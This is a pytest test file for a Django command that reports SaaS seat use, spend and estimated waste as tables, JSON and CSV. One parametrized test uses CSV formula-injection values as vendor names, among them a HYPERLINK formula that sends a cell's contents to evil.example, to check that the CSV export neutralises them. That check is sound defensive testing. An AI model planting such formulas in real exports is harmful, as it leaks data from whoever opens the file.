import csv
import datetime as dt
import io
import json
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connections

from accounts.tests.factories import UserFactory
from analytics.management.commands.usage_report import Command
from analytics.tests.helpers import activity
from contracts.tests.factories import ContractFactory
from procure_site import clock
from url_visits.models import Activity

# The usage below is of November 2026; every test here runs on 2026-12-15
# (UTC), when November is over and all of its data is kept.
pytestmark = pytest.mark.time_machine(dt.datetime(2026, 12, 15, 12, tzinfo=dt.UTC))


@pytest.fixture
def usage(organization):
    """Slack: 3 of 75 seats used in November 2026. Zoom: no seats, unused."""
    slack = ContractFactory(
        organization=organization,
        vendor_name="Slack",
        num_seats=75,
        annual_spend=Decimal("8000.00"),
    )
    ContractFactory(
        organization=organization,
        vendor_name="Zoom",
        num_seats=0,
        annual_spend=Decimal("1500.00"),
    )
    for day in (dt.date(2026, 11, 1), dt.date(2026, 11, 30), dt.date(2026, 11, 12)):
        activity(user=UserFactory(organization=organization), contract=slack, day=day)
    activity(
        user=UserFactory(organization=organization),
        contract=slack,
        day=dt.date(2026, 10, 31),
    )
    return slack


def run(*args: str) -> tuple[str, str]:
    stdout, stderr = io.StringIO(), io.StringIO()
    call_command("usage_report", *args, stdout=stdout, stderr=stderr)
    return stdout.getvalue(), stderr.getvalue()


def test_it_prints_a_table_and_a_summary(usage):
    out, _ = run("--org", "acme.io", "--month", "2026-11")

    lines = out.splitlines()
    assert lines[0].split() == [
        "Vendor",
        "Active",
        "Seats",
        "Util.",
        "Unused",
        "Spend",
        "Per",
        "active",
        "Waste",
    ]
    assert lines[1].split() == [
        "Slack",
        "3",
        "75",
        "4.0%",
        "72",
        "8,000.00",
        "2,666.67",
        "7,680.00",
    ]
    assert lines[2].split() == ["Zoom", "0", "0", "-", "0", "1,500.00", "-", "-"]
    assert lines[3] == (
        "Acme (acme.io), 2026-11: 2 contracts, annual spend 9,500.00, "
        "estimated waste 7,680.00."
    )


def test_it_prints_the_api_json(usage, organization):
    out, err = run("--org", "ACME.io", "--month", "2026-11", "--format", "json")

    report = json.loads(out)
    assert report["organization_id"] == organization.public_id
    assert report["month"] == "2026-11"
    assert report["contracts"][0] == {
        "contract_id": usage.id,
        "vendor_name": "Slack",
        "pricing_model": "per_seat",
        "currency": "USD",
        "active_users": 3,
        "total_seats": 75,
        "annual_spend": 8000.0,
        "utilization": 0.04,
        "unused_seats": 72,
        "cost_per_active_user": 2666.67,
        "estimated_waste": 7680.0,
        "seats_reclaimed": 0,
        "realized_savings": 0.0,
    }
    assert report["totals"] == {
        "annual_spend": 9500.0,
        "estimated_waste": 7680.0,
        "currency": "USD",
        "rates": [],
        "unconverted": [],
        "seats_reclaimed": 0,
        "realized_savings": 0.0,
    }
    # The summary stays out of the JSON.
    assert err.startswith("Acme (acme.io), 2026-11: 2 contracts")


def test_it_prints_csv(usage):
    out, _ = run("--org", "acme.io", "--month", "2026-10", "--format", "csv")

    rows = list(csv.DictReader(io.StringIO(out)))
    assert [row["vendor_name"] for row in rows] == ["Slack", "Zoom"]
    assert rows[0]["active_users"] == "1"
    assert rows[0]["utilization"] == "0.013"
    assert rows[0]["estimated_waste"] == "7893.33"
    assert rows[1]["utilization"] == ""


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
        "+1+cmd",
        "-2+3",
        "@SUM(A1)",
        "\tTab",
        "\rReturn",
    ],
)
def test_it_quotes_cells_a_spreadsheet_would_run_as_formulas(usage, name):
    usage.vendor_name = name
    usage.save()

    out, _ = run("--org", "acme.io", "--month", "2026-10", "--format", "csv")

    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows[0]["vendor_name"] == "'" + name
    assert rows[0]["active_users"] == "1"


def test_it_leaves_ordinary_names_as_they_are(usage):
    usage.vendor_name = "Slack = chat"
    usage.save()

    out, _ = run("--org", "acme.io", "--month", "2026-10", "--format", "csv")

    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows[0]["vendor_name"] == "Slack = chat"


def test_it_finds_the_organization_by_public_id(usage, organization):
    out, _ = run("--org", organization.public_id, "--month", "2026-11")

    assert "Acme (acme.io), 2026-11" in out


def test_it_defaults_to_the_current_utc_month(usage):
    out, _ = run("--org", "acme.io")

    assert f"Acme (acme.io), {clock.today():%Y-%m}:" in out


def test_it_changes_nothing(usage):
    before = Activity.objects.count()

    run("--org", "acme.io", "--month", "2026-11")
    run("--org", "acme.io", "--month", "2026-11")

    assert Activity.objects.count() == before


def test_it_exits_non_zero_for_a_month_that_has_not_started(
    organization, monkeypatch, capsys
):
    monkeypatch.setattr(connections, "close_all", lambda: None)

    with pytest.raises(SystemExit) as exit_info:
        Command().run_from_argv(
            ["manage.py", "usage_report", "--org", "acme.io", "--month", "2030-01"]
        )

    assert exit_info.value.code == 1
    assert "2030-01 has not started yet, so there is no usage to report." in (
        capsys.readouterr().err
    )


@pytest.mark.parametrize("fmt", ["table", "csv"])
def test_it_reports_no_waste_for_a_month_without_data(usage, fmt):
    out, err = run("--org", "acme.io", "--month", "1999-01", "--format", fmt)

    summary = (out if fmt == "table" else err).strip().splitlines()[-1]
    assert summary.startswith(
        "Acme (acme.io), 1999-01: 2 contracts, annual spend 9,500.00, estimated "
        "waste unknown. proCure has no data for 1999-01: its data for this "
        "organization begins on 2026-10-31."
    )
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(out)))
        assert [row["estimated_waste"] for row in rows] == ["", ""]
        assert rows[0]["utilization"] == ""
    else:
        assert out.splitlines()[1].split()[3:5] == ["-", "-"]


def test_it_refuses_an_unknown_organization(db):
    with pytest.raises(
        CommandError, match=r"No organization has the domain or id nope\.example\."
    ):
        run("--org", "nope.example")


@pytest.mark.parametrize("month", ["2026-13", "11-2026", "soon"])
def test_it_refuses_a_malformed_month(organization, month):
    with pytest.raises(CommandError, match="month must be a month in the form YYYY-MM"):
        run("--org", "acme.io", "--month", month)


def test_it_exits_non_zero_on_an_error(organization, monkeypatch, capsys):
    # run_from_argv closes the connections when it is done; the test database
    # must stay open.
    monkeypatch.setattr(connections, "close_all", lambda: None)

    with pytest.raises(SystemExit) as exit_info:
        Command().run_from_argv(
            ["manage.py", "usage_report", "--org", "acme.io", "--month", "bad"]
        )

    assert exit_info.value.code == 1
    assert "month must be a month in the form YYYY-MM" in capsys.readouterr().err


def test_it_has_help(capsys):
    with pytest.raises(SystemExit) as exit_info:
        call_command("usage_report", "--help")

    assert exit_info.value.code == 0
    out = capsys.readouterr().out
    assert "--org" in out
    assert "--month" in out
    assert "{table,csv,json}" in out


def test_it_refuses_an_unknown_format(organization):
    with pytest.raises(CommandError, match="invalid choice: 'xml'"):
        run("--org", "acme.io", "--format", "xml")


def test_it_prints_the_discovered_applications(organization, time_machine):
    from discovery.tests.helpers import (
        close_the_month,
        discovery_on,
        people,
        report_visits,
    )

    discovery_on(organization, min_users=2)
    for user in people(organization, 2):
        report_visits(user, "https://linear.app/", "https://claude.ai/new")
    month = close_the_month(time_machine)
    out = io.StringIO()

    call_command("usage_report", "--org", "acme.io", "--discovered", stdout=out)

    lines = out.getvalue().splitlines()
    assert lines[0].split() == [
        "Application",
        "Vendor",
        "Category",
        "Users",
        "First",
        "seen",
        "Contract",
    ]
    assert [line.split() for line in lines[1:3]] == [
        ["Claude", "Anthropic", "ai", "2", month, "no"],
        ["Linear", "Linear", "engineering", "2", month, "no"],
    ]
    assert lines[3:] == [
        f"Acme (acme.io), {month}: 2 discovered applications used by at least 2 people."
    ]


def test_it_prints_the_discovered_applications_as_csv(organization, time_machine):
    from discovery.tests.helpers import (
        close_the_month,
        discovery_on,
        people,
        report_visits,
    )

    discovery_on(organization, min_users=2)
    for user in people(organization, 2):
        report_visits(user, "https://linear.app/")
    close_the_month(time_machine)
    out, err = io.StringIO(), io.StringIO()

    call_command(
        "usage_report",
        "--org",
        "acme.io",
        "--discovered",
        "--format",
        "csv",
        stdout=out,
        stderr=err,
    )

    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [(r["name"], r["domains"], r["active_users"]) for r in rows] == [
        ("Linear", "linear.app", "2")
    ]
    assert "1 discovered application used" in err.getvalue()
